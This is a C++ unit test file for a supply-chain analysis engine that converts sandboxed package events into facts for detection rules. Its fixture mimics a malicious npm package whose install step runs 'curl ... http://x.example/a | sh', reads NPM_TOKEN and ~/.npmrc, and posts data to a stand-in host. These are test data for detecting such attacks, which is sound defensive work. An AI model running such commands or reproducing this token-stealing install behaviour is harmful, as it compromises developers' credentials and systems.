#include "engine/analysis/facts.h"

#include <fstream>
#include <set>
#include <sstream>

#include <gtest/gtest.h>

#include "tests/engine/analysis/analysis_test_events.h"

namespace vigil::engine::analysis {
namespace {

using test::ev;
using test::record;
namespace kind = collect::kind;
using V = std::vector<std::string>;

Fingerprint crossenvLike() {
    PhaseRecord install = record(
        "install",
        {ev(1, kind::ProcessExec, {{"argv", {"sh", "-c", "node setup.js && curl -s http://x.example/a | sh"}}}),
         ev(2, kind::EnvEnumerate, {{"how", "stringify"}}), ev(3, kind::EnvRead, {{"name", "NPM_TOKEN"}}),
         ev(4, kind::NetDns, {{"name", "x.example"}}),
         ev(5, kind::NetConnect, {{"address", "10.0.0.5"}, {"port", 80}, {"host", "x.example"}}),
         ev(6, kind::NetHttp, {{"method", "POST"}, {"host", "x.example"}, {"path", "/e?d=1"}}),
         ev(7, kind::FileOpen, {{"path", "/home/dev/.npmrc"}, {"access", "read"}}),
         ev(8, kind::CodeEval, {{"length", 3}}), ev(9, kind::CodeEval, {{"length", 3}}),
         ev(10, kind::CodeFunction, {{"length", 3}})});
    install.outcome.exitCode = 1;
    install.outcome.duration = std::chrono::milliseconds(1500);
    install.outcome.cpu = std::chrono::milliseconds(400);
    install.outcome.stdoutBytes = 10;
    install.outcome.stderrBytes = 5;
    PhaseRecord import = record("import", {ev(1, kind::CodeGlobalOverride, {{"target", "fetch"}})});
    return buildFingerprint(PackageIdentity::inConsumer("crossenv", "1.0.0"), {install, import}, nullptr);
}

ExfiltrationProof proof(std::string phase) {
    ExfiltrationProof p;
    p.token = "npm_token";
    p.channel = "http";
    p.destination = "x.example";
    p.encoding = {"base64"};
    p.phase = std::move(phase);
    return p;
}

TEST(Facts, InstallPhaseFacts) {
    const nlohmann::json f = buildFacts(crossenvLike(), "install", {"crossenv", "1.0.0", "cli"}, std::nullopt,
                                        std::nullopt, {proof("install"), proof("import")});
    EXPECT_EQ(f["package.name"], "crossenv");
    EXPECT_EQ(f["category"], "cli");
    EXPECT_EQ(f["phase"], "install");
    EXPECT_EQ(f["events.network.count"], 3);
    EXPECT_EQ(f["events.network.hosts"], (V{"x.example"}));
    EXPECT_EQ(f["events.network.connections"], (V{"x.example:80"}));
    EXPECT_EQ(f["events.network.http_requests.count"], 1);
    EXPECT_EQ(f["events.env_read"], (V{"NPM_TOKEN"}));
    EXPECT_TRUE(f["events.env_enumerated"].get<bool>());
    EXPECT_TRUE(f["events.env_serialised"].get<bool>());  // JSON.stringify reads the values
    EXPECT_EQ(f["events.file.reads"], (V{"$HOME/.npmrc"}));
    EXPECT_EQ(f["events.file.tool_reads.count"], 0);
    EXPECT_EQ(f["events.process.programs"], (V{"curl", "node", "sh"}));
    EXPECT_EQ(f["events.process.shell_commands.count"], 1);
    EXPECT_EQ(f["events.code.eval.count"], 2);
    EXPECT_EQ(f["events.code.function.count"], 1);
    EXPECT_EQ(f["events.code.dynamic.count"], 3);
    EXPECT_EQ(f["events.code.global_overrides.count"], 0);  // that was the import phase
    EXPECT_TRUE(f["outcome.failed"].get<bool>());
    EXPECT_FALSE(f["outcome.timed_out"].get<bool>());
    EXPECT_EQ(f["resources.cpu_ms"], 400);
    EXPECT_EQ(f["resources.duration_ms"], 1500);
    EXPECT_EQ(f["resources.output_bytes"], 15);
    EXPECT_EQ(f["exfil.count"], 1);
    EXPECT_EQ(f["exfil.tokens"], (V{"npm_token"}));
    EXPECT_EQ(f["exfil.channels"], (V{"http"}));
    EXPECT_EQ(f["exfil.encodings"], (V{"base64"}));
    EXPECT_FALSE(f["diff.available"].get<bool>());
    EXPECT_EQ(f["diff.added.network.hosts"], V{});
    EXPECT_EQ(f["norm.network.share"], 1.0);  // unknown norm: treated as common
}

TEST(Facts, AllPhasesDiffAndNorms) {
    DiffFacts diff;
    diff.added["network.hosts"] = {"x.example"};
    NormFacts norms;
    norms.share["network"] = 0.02;
    const nlohmann::json f = buildFacts(crossenvLike(), "", {"crossenv", "1.0.0", "string"}, diff, norms, {proof("install"), proof("import")});
    EXPECT_EQ(f["events.code.global_overrides"], (V{"fetch"}));
    EXPECT_EQ(f["exfil.count"], 2);
    EXPECT_TRUE(f["diff.available"].get<bool>());
    EXPECT_EQ(f["diff.added.network.hosts"], (V{"x.example"}));
    EXPECT_EQ(f["diff.added.network.hosts.count"], 1);
    EXPECT_EQ(f["norm.network.share"], 0.02);
    EXPECT_EQ(f["norm.process.share"], 1.0);
    EXPECT_TRUE(f["norm.available"].get<bool>());
}

TEST(Facts, OutputMatchesTheSchemaExactly) {
    const nlohmann::json f = buildFacts(crossenvLike(), "install", {"crossenv", "1.0.0", ""}, std::nullopt, std::nullopt, {});
    std::set<std::string> emitted;
    for (const auto& [path, value] : f.items()) {
        emitted.insert(path);
        const FactField* field = findFact(path);
        ASSERT_NE(field, nullptr) << path << " is emitted but not in the schema";
        switch (field->type) {
        case FactType::Number: EXPECT_TRUE(value.is_number()) << path; break;
        case FactType::String: EXPECT_TRUE(value.is_string()) << path; break;
        case FactType::Bool: EXPECT_TRUE(value.is_boolean()) << path; break;
        case FactType::StringList:
            ASSERT_TRUE(value.is_array()) << path;
            for (const auto& v : value)
                EXPECT_TRUE(v.is_string()) << path;
            break;
        }
    }
    for (const FactField& field : factSchema())
        EXPECT_TRUE(emitted.count(field.path)) << field.path << " is in the schema but never emitted";
    // The fields the rule language's examples name.
    for (const char* p : {"category", "events.network.count", "events.env_read", "events.process.shell_commands.count",
                          "diff.added.network.hosts", "diff.added.process.programs", "norm.network.share",
                          "norm.process.share", "exfil.tokens", "outcome.timed_out"})
        EXPECT_NE(findFact(p), nullptr) << p;
    EXPECT_EQ(findFact("events.network.bogus"), nullptr);
}

TEST(Facts, ListingEnvNamesIsNotSerialisingAndHostToolReadsAreApart) {
    auto byPid = [](collect::Event e, int32_t pid, std::string exe, collect::Source source = collect::Source::Kernel) {
        e.pid = pid;
        e.exe = std::move(exe);
        e.source = source;
        return e;
    };
    PhaseRecord api = record(
        "api", {byPid(ev(1, kind::EnvEnumerate, {{"how", "keys"}, {"values", false}}), 2, "/opt/nodejs/bin/node",
                      collect::Source::Runtime),
                byPid(ev(2, kind::EnvRead, {{"name", "NPM_TOKEN"}, {"via", "getenv"}}), 2, "/opt/nodejs/bin/node"),
                byPid(ev(3, kind::ProcessExec, {{"path", "/usr/bin/docker"}, {"argv", {"docker", "--version"}}}), 9,
                      "/usr/bin/docker"),
                byPid(ev(4, kind::FileOpen, {{"path", "/home/dev/.docker/config.json"}, {"access", "read"}}), 9,
                      "/usr/bin/docker")});
    const Fingerprint fp = buildFingerprint(PackageIdentity::inConsumer("envinfo", "7.14.0"), {api}, nullptr);
    const nlohmann::json f = buildFacts(fp, "api", {"envinfo", "7.14.0", ""}, std::nullopt, std::nullopt, {});
    EXPECT_TRUE(f["events.env_enumerated"].get<bool>());
    EXPECT_FALSE(f["events.env_serialised"].get<bool>());
    EXPECT_EQ(f["events.env_read.count"], 0);
    EXPECT_EQ(f["events.file.reads.count"], 0);
    EXPECT_EQ(f["events.file.tool_reads"], (V{"docker $HOME/.docker/config.json"}));
}

TEST(FactsDoc, EveryFieldIsDocumented) {
    std::ifstream in(std::string(VIGIL_SOURCE_DIR) + "/rules/FACTS.md");
    ASSERT_TRUE(in) << "rules/FACTS.md is missing";
    std::stringstream text;
    text << in.rdbuf();
    const std::string doc = text.str();
    // Table rows: | `path` | type | meaning |  (parsed by hand: std::regex trips GCC 12's
    // -Wmaybe-uninitialized under the sanitizer build)
    std::map<std::string, std::string> documented;
    std::istringstream lines(doc);
    for (std::string line; std::getline(lines, line);) {
        if (line.rfind("| `", 0) != 0)
            continue;
        const size_t close = line.find('`', 3);
        const size_t typeEnd = line.find(" |", close + 4);
        if (close == std::string::npos || typeEnd == std::string::npos)
            continue;
        documented[line.substr(3, close - 3)] = line.substr(close + 4, typeEnd - close - 4);
    }
    for (const FactField& f : factSchema()) {
        ASSERT_TRUE(documented.count(f.path)) << f.path << " is not in rules/FACTS.md";
        EXPECT_EQ(documented[f.path], factTypeName(f.type)) << f.path;
    }
    EXPECT_EQ(documented.size(), factSchema().size()) << "rules/FACTS.md documents fields the schema lacks";
}

}  // namespace
}  // namespace vigil::engine::analysis
